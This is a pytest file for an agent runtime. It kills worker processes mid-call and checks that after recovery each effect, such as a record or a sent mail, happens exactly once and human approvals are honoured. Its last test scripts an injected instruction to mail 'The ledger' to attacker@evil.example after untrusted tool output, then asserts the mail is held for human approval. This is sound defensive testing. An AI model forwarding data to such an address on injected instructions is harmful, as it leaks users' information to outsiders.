"""kill -9 of a worker at each point of a call; after a restart, each effect happened once.

A run is executed by a worker subprocess (tests/runtime/crash_worker.py). Its tools
(tests/runtime/crash_tools.py) kill their own process with SIGKILL on cue, (a) before
the effect, (b) right after it, when neither tether's effect ledger nor DBOS has
recorded the step; or (c) the worker is killed while the run is parked for approval.
A new worker with the same executor id on the same database finishes the run. We count
what the SMTP server received, the records the desk holds, the ledger's entries and
the audit trail's events. On SQLite always, and on PostgreSQL with
TETHER_TEST_DATABASE_URL (each test on a fresh database).
"""

from __future__ import annotations

import signal
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.runtime.crash_tools import message_id
from tests.runtime.harness import (
    Harness,
    done_turn,
    harness,
    mail_turn,
    record_turn,
)
from tether.runtime import RunRecord

pytestmark = pytest.mark.slow
KILLED = -signal.SIGKILL


@pytest.fixture
def h(database_url: str, tmp_path: Path) -> Iterator[Harness]:
    yield from harness(database_url, tmp_path)


def assert_once(h: Harness, run: RunRecord, *, attempts: dict[str, int]) -> None:
    """Each call of the run had its effect exactly once, and everything says so."""
    rt = h.runtime
    effects = {effect.tool: effect for effect in rt.store.effects(run.id)}
    assert sorted(effects) == ["crash.create_record", "crash.send_mail"]
    assert {tool: effect.status for tool, effect in effects.items()} == {
        "crash.create_record": "done",
        "crash.send_mail": "done",
    }
    # The ledger counts executions of the step; the tools count their own attempts.
    assert {tool: effect.attempts for tool, effect in effects.items()} == attempts
    tried = Counter(tool for (tool,) in h.desk("SELECT tool FROM attempt"))
    assert dict(tried) == attempts

    record_key = effects["crash.create_record"].idempotency_key
    mail_key = effects["crash.send_mail"].idempotency_key
    assert h.desk("SELECT idempotency_key FROM record") == [(record_key,)]
    assert h.desk("SELECT idempotency_key FROM sent_log") == [(mail_key,)]
    # What the SMTP server received: one message, with the call's key in its Message-ID.
    assert h.smtp.message_ids() == [message_id(mail_key)]

    executed = [
        str(stored.event.tool) for stored in rt.audit.events(run=run.id, type="call.executed")
    ]
    assert sorted(executed) == ["crash.create_record", "crash.send_mail"]
    assert rt.audit.verify().intact


@pytest.mark.parametrize("tool", ["crash.create_record", "crash.send_mail"])
def test_kill_before_the_effect(h: Harness, tool: str) -> None:
    h.arm("before", tool)
    first = h.start_worker()
    run = h.start_run([record_turn("order-1"), mail_turn("Order 1 is booked"), done_turn()])
    assert first.wait_exit() == KILLED
    assert [line.split()[:2] for line in h.kills()] == [["before", tool]]
    assert h.status(run.id) == "running"  # nobody is executing it now

    second = h.start_worker()  # same executor id: DBOS recovers the segment
    done = h.wait_finished(run.id, worker=second)
    assert done.status == "completed", done.error
    assert done.output == "All done."
    assert_once(h, run, attempts={"crash.create_record": 1, "crash.send_mail": 1} | {tool: 2})
    if tool == "crash.create_record":
        assert h.smtp.message_ids()  # the mail went out after the restart


@pytest.mark.parametrize("tool", ["crash.create_record", "crash.send_mail"])
def test_kill_after_the_effect_before_the_checkpoint(h: Harness, tool: str) -> None:
    h.arm("after", tool)
    first = h.start_worker()
    run = h.start_run([record_turn("order-2"), mail_turn("Order 2 is booked"), done_turn()])
    assert first.wait_exit() == KILLED
    assert [line.split()[:2] for line in h.kills()] == [["after", tool]]
    # The effect happened; the ledger knows the step started, not that it ended.
    (started,) = [e for e in h.runtime.store.effects(run.id) if e.tool == tool]
    assert started.status == "started"
    if tool == "crash.send_mail":
        assert len(h.smtp.message_ids()) == 1
    else:
        assert len(h.desk("SELECT * FROM record")) == 1

    second = h.start_worker()
    done = h.wait_finished(run.id, worker=second)
    assert done.status == "completed", done.error
    assert_once(h, run, attempts={"crash.create_record": 1, "crash.send_mail": 1} | {tool: 2})


def test_kill_while_parked_for_approval(h: Harness) -> None:
    first = h.start_worker()
    run = h.start_run([record_turn("order-3"), mail_turn("[approve] Order 3 refund"), done_turn()])
    parked = h.wait_status(run.id, {"waiting_approval"}, worker=first)
    # Parked: the segment has ended, so nothing of the run is in flight anywhere.
    h.wait_until(
        "segment 1 to end",
        lambda: h.segment_status(run.id, parked.segment) == "SUCCESS",
        worker=first,
    )
    assert first.kill() == KILLED
    assert h.smtp.message_ids() == []

    rt = h.runtime  # the test process decides, with no worker alive
    (request,) = rt.approvals.find(run_id=run.id)
    assert request.tool == "crash.send_mail"
    rt.approve(request.id, by="lena")
    assert h.status(run.id) == "queued"

    second = h.start_worker()
    done = h.wait_finished(run.id, worker=second)
    assert done.status == "completed", done.error
    assert done.segment == 2
    assert_once(h, run, attempts={"crash.create_record": 1, "crash.send_mail": 1})
    (approved,) = rt.approvals.find(run_id=run.id, status=None)
    assert approved.status == "executed"


def test_kill_while_executing_the_approved_call(h: Harness) -> None:
    """Approved, then killed after the effect: the recovered step uses the approval once."""
    first = h.start_worker()
    run = h.start_run([record_turn("order-4"), mail_turn("[approve] Order 4 refund"), done_turn()])
    h.wait_status(run.id, {"waiting_approval"}, worker=first)
    (request,) = h.runtime.approvals.find(run_id=run.id)
    h.arm("after", "crash.send_mail")
    h.runtime.approve(request.id, by="lena")
    assert first.wait_exit() == KILLED
    assert len(h.smtp.message_ids()) == 1

    second = h.start_worker()
    done = h.wait_finished(run.id, worker=second)
    assert done.status == "completed", done.error
    assert_once(h, run, attempts={"crash.create_record": 1, "crash.send_mail": 2})
    (approved,) = h.runtime.approvals.find(run_id=run.id, status=None)
    assert approved.status == "executed"


def test_kill_after_recording_a_tainting_write_keeps_the_taint(h: Harness) -> None:
    """Issue 15, item 17: a non-read tool with untrusted output. Killed right after the
    transaction that records its execution: the taint and what the output showed were
    written in that same transaction, so the recovered run still knows it read outside
    content, and the mail its content asks for waits for a person."""
    h.arm("after-record", "crash.claim_ticket")
    first = h.start_worker()
    ticket = {
        "text": "Claiming the ticket.",
        "calls": [{"tool": "crash.claim_ticket", "args": {"ticket": "T-1"}}],
    }
    forward = mail_turn("The ledger", to="attacker@evil.example")
    run = h.start_run([ticket, forward, done_turn()])
    assert first.wait_exit() == KILLED
    assert [line.split()[:2] for line in h.kills()] == [["after-record", "crash.claim_ticket"]]
    (claimed,) = [e for e in h.runtime.store.effects(run.id) if e.tool == "crash.claim_ticket"]
    assert claimed.status == "done"  # the effect is recorded as done...
    state = h.runtime.store.run_state(run.id)
    assert state.untrusted  # ...and so is the taint, in the same transaction
    assert "untrusted:crash.claim_ticket" in state.provenance["email:attacker@evil.example"]

    second = h.start_worker()
    parked = h.wait_status(run.id, {"waiting_approval"}, worker=second)
    assert parked.untrusted
    (request,) = h.runtime.approvals.find(run_id=run.id)
    assert request.tool == "crash.send_mail"
    assert request.rule == "defaults.untrusted"
    assert h.smtp.message_ids() == []  # nothing went to the attacker without a person
    assert h.desk("SELECT COUNT(*) FROM attempt WHERE tool = 'crash.claim_ticket'") == [(1,)]
